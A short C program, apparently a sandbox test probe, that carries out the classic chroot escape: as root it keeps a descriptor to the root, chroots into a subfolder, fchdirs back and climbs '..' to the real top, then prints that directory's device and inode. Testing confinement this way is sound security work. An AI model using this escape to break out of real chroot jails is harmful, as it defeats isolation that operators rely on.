/*
 * The classic way out of a chroot, as far as looking goes: root keeps a descriptor of its root, changes the root to a
 * folder below, and is outside of what was its prison, from where .. leads on to the top. Prints device and inode of that top.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void)
{
	struct stat top;
	int root = open("/", O_RDONLY | O_DIRECTORY);
	if (root < 0 || (mkdir("/below", 0700) < 0 && access("/below", F_OK) < 0) || chroot("/below") < 0 || fchdir(root) < 0) {
		perror("chroot-escape");
		return 1;
	}
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			return 2;
	if (stat(".", &top) < 0)
		return 3;
	printf("%llu:%llu\n", (unsigned long long)top.st_dev, (unsigned long long)top.st_ino);
	return 0;
}
